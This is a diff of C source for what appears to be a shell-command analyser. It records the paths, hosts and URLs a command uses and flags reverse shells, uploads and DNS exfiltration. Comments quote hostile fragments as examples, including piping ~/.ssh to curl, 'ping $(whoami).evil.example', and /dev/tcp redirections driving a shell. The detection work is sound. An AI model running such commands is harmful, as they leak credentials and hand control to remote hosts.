@@ -1,5 +1,5 @@
 /*
- * Facts of one interpreted command: which words are files it reads,
+ * Facts of one interpreted command (the network's in facts_net.c): which words are files it reads,
  * writes, deletes or runs, its subcommand, the URLs and hosts it talks to,
  * the variables it is given, and the network idioms (reverse shells,
  * uploads, listeners, DNS exfiltration). The words are walked once against
@@ -61,10 +61,49 @@ static int dev_sink(pe_str w)
     return sh_in_list(sinks, w.s, w.len);
 }
 
+/* A path being recorded: where it is, what it is for. */
+typedef struct path_rec {
+    sh_where w;
+    unsigned wflags, role;
+} path_rec;
+
+static void record_path(sh_ctx *c, void *arg, pe_str p, int known, int tainted)
+{
+    const path_rec *pr = arg;
+    (void)tainted;
+    if (c->remote)
+        return; /* a path on another host or in a container is none of this one's */
+    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
+        return;
+    pe_shell_path *e = &c->paths[c->npaths++];
+    e->path = p;
+    e->cwd = pr->w.cwd;
+    e->role = pr->role;
+    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
+               ((pr->wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
+    if (!pr->w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
+        e->flags |= PE_SHELL_P_UNKNOWN;
+}
+
+/* <(...) and >(...): a pipe to another command, not a file. */
+static int procsub_word(pe_str w, unsigned wflags)
+{
+    return (wflags & PE_SHELL_W_PROCSUB) && w.len > 2 && (w.s[0] == '<' || w.s[0] == '>') &&
+           w.s[1] == '(' && w.s[w.len - 1] == ')';
+}
+
 void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wflags, unsigned role)
 {
-    if (!word.len || !role || dev_sink(word))
+    if (!word.len || !role || dev_sink(word) || procsub_word(word, wflags))
         return;
+    if (sh_eq(word, "-") && !(role & PE_SHELL_P_UPLOAD))
+        return; /* standard input or output: cat - < f, wget -O- */
+    if (word.len > 8 && !memcmp(word.s, "file:///", 8)) {
+        word.s += 7, word.len -= 7; /* kubectl apply -f file:///etc/x: the file */
+    } else if (sh_is_url(word)) {   /* kubectl apply -f https://...: fetched, not a file */
+        sh_net_word(c, scope, word, wflags, PE_URL_WEB);
+        return;
+    }
     if ((role & PE_SHELL_P_UPLOAD) && sh_eq(word, "-")) {
         c->flags |= PE_SHELL_UPLOAD; /* what comes in on stdin is sent */
         role = PE_SHELL_P_UPLOAD;
@@ -72,219 +111,13 @@ void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wfl
     }
     if ((role & PE_SHELL_P_EXEC) && sh_file_downloaded(c, scope, word, wflags))
         c->flags |= PE_SHELL_RUNS_DOWNLOAD;
-    pe_str p;
-    int known = sh_expand(c, scope, word, wflags, &p);
-    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
-        return;
-    pe_shell_path *e = &c->paths[c->npaths++];
-    e->path = p;
-    e->cwd = w.cwd;
-    e->role = role;
-    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
-               ((wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
-    if (!w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
-        e->flags |= PE_SHELL_P_UNKNOWN;
-    if (c->remote)
-        e->flags |= PE_SHELL_P_REMOTE; /* a path on another host or in a container */
+    path_rec pr = {w, wflags, role};
+    sh_expand_each(c, scope, word, wflags, record_path, &pr);
 }
 
 void sh_path_add(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, unsigned role)
 {
     sh_path_in(c, scope, sh_where_of(c, scope), word, wflags, role);
-}
-
-/* ---- hosts and URLs ------------------------------------------------------ */
-
-void sh_add_host(sh_ctx *c, const pe_host *h)
-{
-    if (h->kind == PE_HOST_NONE)
-        return;
-    sh_strs_add(c, &c->hosts, h->text, 0);
-    if (h->v4.len && !(h->v4.len == h->text.len && !memcmp(h->v4.s, h->text.s, h->v4.len)))
-        sh_strs_add(c, &c->hosts, h->v4, 0);
-}
-
-/* The parts of a host that an expansion leaves known: what comes before
- * the first one (http://169.254.170.2$URI reaches 169.254.170.2) and the
- * domain after the last one ($(id).t.evil.example asks evil.example's
- * servers). */
-static void known_host_parts(sh_ctx *c, pe_str h)
-{
-    size_t first = h.len, last = 0;
-    for (size_t i = 0; i < h.len; i++)
-        if (strchr("$`)}", h.s[i])) {
-            first = i < first ? i : first;
-            last = i + 1;
-        }
-    if (first == h.len)
-        return;
-    pe_str parts[2] = {{h.s, first}, {h.s + last, h.len - last}};
-    for (int k = 0; k < 2; k++) {
-        pe_str p = parts[k];
-        while (p.len && (p.s[0] == '.' || p.s[0] == '-'))
-            p.s++, p.len--;
-        while (p.len && (p.s[p.len - 1] == '.' || p.s[p.len - 1] == '-'))
-            p.len--;
-        if (!p.len || !memchr(p.s, '.', p.len))
-            continue; /* not a whole name */
-        pe_host host;
-        if (pe_host_normalize(&host, p.s, p.len, c->arena) < 0) {
-            sh_nomem(c);
-            return;
-        }
-        sh_add_host(c, &host);
-    }
-}
-
-/* A host whose name holds a substitution under a fixed domain
- * ($(whoami).x.example): its authoritative server learns the output. A
- * host that is all substitution (ping $(docker inspect ...)) is only an
- * address computed at run time. */
-static int carries_data(pe_str h)
-{
-    size_t last = 0;
-    int sub = 0;
-    for (size_t i = 0; i < h.len; i++)
-        if (h.s[i] == '$' || h.s[i] == '`' || h.s[i] == ')') {
-            sub = 1;
-            last = i + 1;
-        }
-    if (!sub)
-        return 0;
-    pe_str rest = {h.s + last, h.len - last};
-    const char *dot = memchr(rest.s, '.', rest.len);
-    /* a dot and a label after it: ".evil.example", ".x.io" */
-    return dot && (size_t)(dot - rest.s) + 1 < rest.len;
-}
-
-/* A name made by a substitution is a lookup that carries data out (DNS
- * exfiltration: ping $(whoami).evil.example). */
-int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
-{
-    pe_str t;
-    sh_expand(c, scope, word, wflags, &t);
-    pe_url u;
-    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)style, c->arena) < 0) {
-        sh_nomem(c);
-        return 0;
-    }
-    if (u.host.kind == PE_HOST_NONE)
-        return 0;
-    const pe_str *h = &u.host.text;
-    if ((wflags & PE_SHELL_W_CMDSUB) && carries_data(*h))
-        c->flags |= PE_SHELL_DNS_EXFIL;
-    sh_strs_add(c, &c->urls, t, 0);
-    sh_add_host(c, &u.host);
-    if (wflags & PE_SHELL_W_EXPANDS)
-        known_host_parts(c, *h);
-    return (int)u.host.kind;
-}
-
-/* A DNS record type (dig x TXT, host -t is an option). */
-static int dns_type(pe_str w)
-{
-    static const char *const types[] = {"A",    "AAAA", "ANY",  "CAA",  "CNAME", "DNSKEY", "DS",
-                                        "MX",   "NS",   "PTR",  "SOA",  "SRV",   "TXT",    "HTTPS",
-                                        "SVCB", "AXFR", "IXFR", "NULL", NULL};
-    for (const char *const *t = types; *t; t++)
-        if (w.len == strlen(*t) && strncasecmp(w.s, *t, w.len) == 0)
-            return 1;
-    return 0;
-}
-
-/* The names a lookup or connection command is given: the first operand
- * (ping host, telnet host port), or every name of a DNS tool (dig @server
- * name TXT, host name server, nslookup name server), where a name made by
- * a substitution carries data out. */
-static void lookup_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, const sh_walk *wk)
-{
-    size_t n = (k->flags & K_DNS) && strcmp(k->name, "ping") != 0 ? wk->nops : (wk->nops ? 1 : 0);
-    for (size_t i = 0; i < n; i++) {
-        pe_str w = sc->pub.argv[wk->ops[i]];
-        if ((k->flags & K_DNS) && w.len && w.s[0] == '+')
-            continue; /* dig +short */
-        if (w.len > 1 && w.s[0] == '@')
-            w.s++, w.len--;
-        else if ((k->flags & K_DNS) && dns_type(w))
-            continue;
-        sh_net_word(c, sc->scope, w, sc->pub.argf[wk->ops[i]], PE_URL_SSH);
-    }
-}
-
-/* Whether a word looks like a URL (scheme://). */
-static int is_url(pe_str w)
-{
-    size_t i = 0;
-    while (i < w.len && ((w.s[i] >= 'a' && w.s[i] <= 'z') || (w.s[i] >= 'A' && w.s[i] <= 'Z') ||
-                         (i && ((w.s[i] >= '0' && w.s[i] <= '9') || strchr("+.-", w.s[i])))))
-        i++;
-    return i > 1 && i + 2 < w.len && w.s[i] == ':' && w.s[i + 1] == '/' && w.s[i + 2] == '/';
-}
-
-/* ---- redirections -------------------------------------------------------- */
-
-/* A redirection making a descriptor a copy of a network connection: an
- * fd opened to /dev/tcp earlier on the line, or one kept in a variable
- * after ztcp. */
-static int dup_of_net(const sh_ctx *c, const pe_shell_redir *r)
-{
-    if (!sh_eq(r->op, "<&") && !sh_eq(r->op, ">&"))
-        return 0;
-    pe_str t = r->target;
-    if (t.len && t.s[0] == '$')
-        return c->net_fd_var;
-    long fd = 0;
-    for (size_t i = 0; i < t.len; i++) {
-        if (t.s[i] < '0' || t.s[i] > '9' || fd > 1000000)
-            return 0;
-        fd = fd * 10 + (t.s[i] - '0');
-    }
-    for (size_t i = 0; t.len && i < c->nnet_fds; i++)
-        if (c->net_fds[i] == fd)
-            return 1;
-    return 0;
-}
-
-static void redir_facts(sh_ctx *c, const sh_cmd *sc)
-{
-    const pe_shell_cmd *k = &sc->pub;
-    for (size_t j = 0; j < k->nredirs; j++) {
-        const pe_shell_redir *r = &k->redirs[j];
-        if (!(r->flags & PE_SHELL_R_FILE)) {
-            /* sh <&3 >&3 with 3 a connection: a shell driven from afar */
-            if ((k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC)) && dup_of_net(c, r))
-                c->flags |= PE_SHELL_REVERSE_SHELL;
-            continue;
-        }
-        if (dup_of_net(c, r)) { /* >&$REPLY after ztcp */
-            if (k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC))
-                c->flags |= PE_SHELL_REVERSE_SHELL;
-            continue;
-        }
-        pe_dev_net dn;
-        pe_str t;
-        sh_expand(c, sc->scope, r->target, r->flags, &t);
-        int net = pe_dev_net_parse(&dn, t.s, t.len, c->arena);
-        if (net < 0) {
-            sh_nomem(c);
-            return;
-        }
-        if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
-            sh_add_host(c, &dn.host);
-            if (r->fd >= 0 && (!k->argc || sh_eq(k->base, "exec")) && c->nnet_fds < 8)
-                c->net_fds[c->nnet_fds++] = r->fd; /* exec 3<>/dev/tcp/h/p */
-            if (k->flags & PE_SHELL_C_INTERPRETER)
-                c->flags |= PE_SHELL_REVERSE_SHELL;
-            else if ((r->flags & PE_SHELL_R_WRITE) && r->op.s[0] != '<' &&
-                     (r->fd == -1 || r->fd == 1))
-                c->flags |= PE_SHELL_UPLOAD; /* cat f > /dev/tcp/h/p */
-            continue;
-        }
-        unsigned role = r->flags & PE_SHELL_R_WRITE ? PE_SHELL_P_WRITE : 0;
-        if (r->op.s[0] == '<')
-            role |= PE_SHELL_P_READ;
-        sh_path_add(c, sc->scope, r->target, r->flags, role);
-    }
 }
 
 /* ---- walking the words --------------------------------------------------- */
@@ -309,11 +142,28 @@ static unsigned role_bits(unsigned or_role)
 
 /* An option's value (word vi of k) with role r. */
 static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, pe_str v,
-                         unsigned vf)
+                         unsigned vf, long sub)
 {
     switch (r) {
     case OR_OPERAND_ONE:
         wk->skip_given = 1;
+        break;
+    case OR_READ_ONE: /* grep -f PATTERNS FILE...: the operands are all files */
+        wk->skip_given = 1;
+        sh_path_in(c, sc->scope, wk->w, v, vf, PE_SHELL_P_READ);
+        break;
+    case OR_TARGET:
+        wk->target = 1;
+        sh_path_in(c, sc->scope, wk->w, v, vf, PE_SHELL_P_WRITE);
+        break;
+    case OR_HOSTS: /* ssh -J user@jump:22,other */
+        for (size_t i = 0, e; i < v.len; i = e + 1) {
+            for (e = i; e < v.len && v.s[e] != ',';)
+                e++;
+            char *h = e > i ? sh_strndup(c, v.s + i, e - i) : NULL;
+            if (h)
+                sh_net_word(c, sc->scope, (pe_str){h, e - i}, vf, PE_URL_WEB);
+        }
         break;
     case OR_CWD:
         wk->w = sh_where_enter(c, sc->scope, wk->w, v, vf);
@@ -326,8 +176,10 @@ static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, p
         const char *at = memchr(v.s, '@', v.len);
         if (!at && v.len && memchr(v.s, '<', v.len) && memchr(v.s, '=', v.len))
             at = memchr(v.s, '<', v.len);
-        c->flags |= PE_SHELL_UPLOAD;
         int named = r == OR_UPLOAD_NAMED && at && !memchr(v.s, '=', (size_t)(at - v.s));
+        c->flags |= PE_SHELL_UPLOAD;
+        if (vf & PE_SHELL_W_CMDSUB) /* -d "$(cat f)": what the substitution read is sent */
+            sh_output_sent(c, sub);
         if (at && (at == v.s || named || at[-1] == '=')) {
             pe_str f = {at + 1, v.len - (size_t)(at - v.s) - 1};
             size_t semi = 0;
@@ -379,11 +231,13 @@ static void flag_role(sh_walk *wk, unsigned r)
         wk->list = 1;
     else if (r == OR_DELETE_FLAG)
         wk->delete_flag = 1;
+    else if (r == OR_KEEP_FLAG)
+        wk->keep = 1;
 }
 
 static int takes_value(unsigned r)
 {
-    return r && r != OR_EDIT_FLAG && r != OR_LIST_FLAG && r != OR_DELETE_FLAG;
+    return r && r != OR_EDIT_FLAG && r != OR_LIST_FLAG && r != OR_DELETE_FLAG && r != OR_KEEP_FLAG;
 }
 
 /* A --long option at argv[j]; the number of extra words it takes. */
@@ -400,12 +254,12 @@ static size_t long_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk
         return 0;
     if (eq) {
         pe_str v = {eq + 1, a.len - nlen - 1};
-        option_value(c, sc, wk, r, v, p->argf[j]);
+        option_value(c, sc, wk, r, v, p->argf[j], -1);
         return 0;
     }
     if (j + 1 >= p->argc)
         return 0;
-    option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+    option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1], sh_word_sub(sc, j + 1));
     return 1;
 }
 
@@ -421,7 +275,7 @@ static size_t short_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_wal
         flag_role(wk, whole);
         if (!takes_value(whole) || j + 1 >= p->argc)
             return 0;
-        option_value(c, sc, wk, whole, p->argv[j + 1], p->argf[j + 1]);
+        option_value(c, sc, wk, whole, p->argv[j + 1], p->argf[j + 1], sh_word_sub(sc, j + 1));
         return 1;
     }
     for (size_t i = 1; i < a.len; i++) {
@@ -433,13 +287,13 @@ static size_t short_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_wal
         if (i + 1 < a.len) { /* the value attached: -ofile */
             pe_str v = {a.s + i + 1, a.len - i - 1};
             if (takes_value(r))
-                option_value(c, sc, wk, r, v, p->argf[j]);
+                option_value(c, sc, wk, r, v, p->argf[j], -1);
             return 0;
         }
         if (j + 1 >= p->argc)
             return 0;
         if (takes_value(r))
-            option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+            option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1], sh_word_sub(sc, j + 1));
         return 1;
     }
     return 0;
@@ -472,11 +326,13 @@ static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *w
             j += a.s[1] == '-' ? long_option(c, sc, k, wk, j) : short_option(c, sc, k, wk, j);
             continue;
         }
+        if (!opts_done && (k->flags & K_PLUS) && a.len > 1 && a.s[0] == '+')
+            continue; /* vim +cmd, less +F */
         const char *eq = memchr(a.s, '=', a.len);
         unsigned r = eq ? sh_know_optrole(k, a.s, (size_t)(eq - a.s) + 1) : 0;
         if (r) { /* dd's if=FILE */
             pe_str v = {eq + 1, a.len - (size_t)(eq - a.s) - 1};
-            option_value(c, sc, wk, r, v, p->argf[j]);
+            option_value(c, sc, wk, r, v, p->argf[j], -1);
             continue;
         }
         if (wk->nops < sizeof(wk->ops) / sizeof(wk->ops[0]))
@@ -488,12 +344,18 @@ static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *w
 
 void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, unsigned op)
 {
-    size_t first = k->skip && !wk->skip_given ? k->skip : 0;
+    const pe_shell_cmd *p = &sc->pub;
+    size_t sub = 0; /* the subcommand's words come first (yq e EXPR FILE) */
+    while (p->nsub && sub < wk->nops && wk->ops[sub] < p->subidx + p->nsub)
+        sub++;
+    size_t first = sub + (k->skip && !wk->skip_given ? k->skip : 0);
     if (first > wk->nops)
         first = wk->nops;
     size_t n = wk->nops;
     if (wk->edit && op == OP_READ)
         op = OP_EDIT;
+    if (wk->keep && op == OP_EDIT)
+        op = OP_READ; /* gzip -c f: f stays as it is */
     if (op == OP_LIST && n == first && !(sc->pub.flags & PE_SHELL_C_STDIN_PIPE)) {
         /* ls, du, tree with no operand: the working directory */
         pe_str here = {".", 1};
@@ -502,7 +364,7 @@ void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk
     }
     for (size_t i = first; i < n; i++) {
         size_t j = wk->ops[i];
-        int last = i + 1 == n && n - first > 1;
+        int last = i + 1 == n && n - first > 1 && !wk->target;
         unsigned role = 0;
         switch (op) {
         case OP_READ:
@@ -535,6 +397,9 @@ void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk
         case OP_IO:
             role = i == first ? PE_SHELL_P_READ : i == first + 1 ? PE_SHELL_P_WRITE : 0;
             break;
+        case OP_EDIT_ONE:
+            role = i == first ? PE_SHELL_P_READ | PE_SHELL_P_WRITE : 0;
+            break;
         case OP_URL:
             continue; /* the special handlers know the style */
         default:
@@ -558,6 +423,28 @@ static int in_words(const char *const *l, pe_str w)
     return 0;
 }
 
+/* The name a subcommand stands for (npm i: install), or itself. */
+static pe_str alias_of(const char *const *aliases, pe_str w)
+{
+    for (const char *const *a = aliases; a && a[0] && a[1]; a += 2)
+        if (sh_eq(w, a[0])) {
+            pe_str r = {a[1], strlen(a[1])};
+            return r;
+        }
+    return w;
+}
+
+/* An action that ends a subcommand path: one of verbs, or get-... set-... */
+static int is_verb(const char *const *verbs, pe_str w)
+{
+    static const char *const prefixes[] = {"get-",   "set-",    "add-",    "remove-", "list-",
+                                           "print-", "create-", "delete-", NULL};
+    for (const char *const *p = prefixes; *p; p++)
+        if (w.len > strlen(*p) && !memcmp(w.s, *p, strlen(*p)))
+            return 1;
+    return in_words(verbs, w);
+}
+
 /* git reset, docker compose up: the path of words after the global
  * options; recorded as "git reset" and, for a group, "git stash drop". */
 static void subcommand(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
@@ -567,18 +454,21 @@ static void subcommand(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
         return;
     size_t j = wk->ops[0], n = 1;
     pe_str a = p->argv[j];
-    if (!a.len || (p->argf[j] & PE_SHELL_W_EXPANDS))
+    if (!a.len || (p->argf[j] & PE_SHELL_W_EXPANDS) || (k->sub->only && !in_words(k->sub->only, a)))
         return;
     /* later words only while they can be part of the path: with a list of
-     * groups, only after a group's name (git stash drop, not git push origin) */
+     * groups, only after a group's name (git stash drop, not git push origin);
+     * with verbs, not after one (gcloud projects delete NAME) */
     while (n < k->sub->depth && n < wk->nops && wk->ops[n] == j + n &&
            (!k->sub->groups || in_words(k->sub->groups, p->argv[j])) &&
+           !(k->sub->verbs && is_verb(k->sub->verbs, p->argv[j + n - 1])) &&
            !(p->argf[j + n] & PE_SHELL_W_EXPANDS))
         n++;
     p->subidx = j;
     p->nsub = n;
-    size_t len = p->base.len;
-    for (size_t i = 0; i < n; i++)
+    pe_str first = alias_of(k->sub->aliases, p->argv[j]); /* npm i: npm install */
+    size_t len = p->base.len + 1 + first.len;
+    for (size_t i = 1; i < n; i++)
         len += 1 + p->argv[j + i].len;
     char *d = sh_alloc(c, len + 1);
     if (!d)
@@ -587,9 +477,10 @@ static void subcommand(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
     memcpy(d, p->base.s, p->base.len);
     o = p->base.len;
     for (size_t i = 0; i < n; i++) {
+        pe_str w = i ? p->argv[j + i] : first;
         d[o++] = ' ';
-        memcpy(d + o, p->argv[j + i].s, p->argv[j + i].len);
-        o += p->argv[j + i].len;
+        memcpy(d + o, w.s, w.len);
+        o += w.len;
         pe_str s = {d, o};
         sh_strs_add(c, &c->subs, s, 1);
     }
@@ -636,30 +527,24 @@ void sh_facts(sh_ctx *c, size_t idx)
     c->facts_of = outer;
 }
 
-/* What is sent from standard input (curl -T -, -d @-, nc host) is what
- * the commands feeding the pipe read: tar cz ~/.ssh | curl -T - x sends
- * ~/.ssh. The feeding commands' facts were recorded before. */
-void sh_stdin_sent(sh_ctx *c)
-{
-    long src = c->facts_of >= 0 ? c->cmds[c->facts_of].src : -1;
-    for (int hops = 0; src >= 0 && (size_t)src < c->ncmds && hops < 16; hops++) {
-        const sh_cmd *s = &c->cmds[src];
-        for (size_t i = s->path_from; i < s->path_to && i < c->npaths; i++)
-            if (c->paths[i].role & PE_SHELL_P_READ)
-                c->paths[i].role |= PE_SHELL_P_UPLOAD;
-        if (!(s->pub.flags & PE_SHELL_C_STDIN_PIPE))
-            break;
-        src = s->src; /* gzip, base64 ... pass their input on */
-    }
-}
+static void words_facts(sh_ctx *c, size_t idx);
 
 static void command_facts(sh_ctx *c, size_t idx)
 {
-    redir_facts(c, &c->cmds[idx]);
+    int net_out = sh_redir_facts(c, &c->cmds[idx]);
     env_facts(c, &c->cmds[idx]);
     const sh_cmd *sc = &c->cmds[idx];
-    if (sc->pub.argc == 0 || (sc->pub.flags & PE_SHELL_C_RESOLVED) || c->stop)
-        return;
+    if (sc->pub.argc && !(sc->pub.flags & PE_SHELL_C_RESOLVED) && !c->stop)
+        words_facts(c, idx);
+    if (net_out && !c->stop)
+        sh_output_to_network(c, idx);
+    sh_net_pipeline(c, idx);
+}
+
+/* What the words of command idx say, against its knowledge row. */
+static void words_facts(sh_ctx *c, size_t idx)
+{
+    const sh_cmd *sc = &c->cmds[idx];
     const sh_know *k =
         (sc->pub.argf[0] & PE_SHELL_W_UNKNOWN_NAME) ? NULL : sh_know_find(sc->pub.base);
     sh_walk wk;
@@ -679,7 +564,7 @@ static void command_facts(sh_ctx *c, size_t idx)
                                            [OP_FIRST] = PE_SHELL_P_READ,
                                            [OP_IO] = PE_SHELL_P_READ,
                                            [OP_EXEC] = PE_SHELL_P_EXEC};
-        pe_str input = {"$(xargs input)", 14};
+        pe_str input = {SH_XARGS_INPUT, sizeof(SH_XARGS_INPUT) - 1};
         unsigned inf = PE_SHELL_W_CMDSUB;
         int from = sh_xargs_source(c, idx, &input, &inf);
         if (from != 2) /* known input: the command is analysed again with it */
@@ -695,7 +580,7 @@ static void command_facts(sh_ctx *c, size_t idx)
             sh_operand_roles(c, &c->cmds[idx], k, &wk, k->operands);
         sc = &c->cmds[idx];
         if (k->operands == OP_URL && !(k->flags & K_SPECIAL))
-            lookup_words(c, sc, k, &wk);
+            sh_lookup_words(c, sc, k, &wk);
         if (strcmp(k->name, "ztcp") == 0) { /* zsh: the connection's fd is in $REPLY */
             c->net_fd_var = 1;
             for (size_t j = 1; j < sc->pub.argc; j++)
@@ -707,9 +592,12 @@ static void command_facts(sh_ctx *c, size_t idx)
             wk.ops[wk.nops < 64 ? wk.nops++ : 63] = j;
     }
     sc = &c->cmds[idx];
-    if (!k || !(k->flags & K_SPECIAL)) /* URLs among any command's operands */
-        for (size_t i = 0; i < wk.nops; i++)
-            if (is_url(sc->pub.argv[wk.ops[i]]))
+    /* URLs among any command's operands, but for data (echo's words, a
+     * grep pattern) */
+    size_t data = k && k->skip && !wk.skip_given ? k->skip : 0;
+    if (!k || !(k->flags & (K_SPECIAL | K_DATA)))
+        for (size_t i = data; i < wk.nops; i++)
+            if (sh_is_url(sc->pub.argv[wk.ops[i]]))
                 sh_net_word(c, sc->scope, sc->pub.argv[wk.ops[i]], sc->pub.argf[wk.ops[i]],
                             PE_URL_WEB);
     sh_carry_command(c, idx, k, &wk);
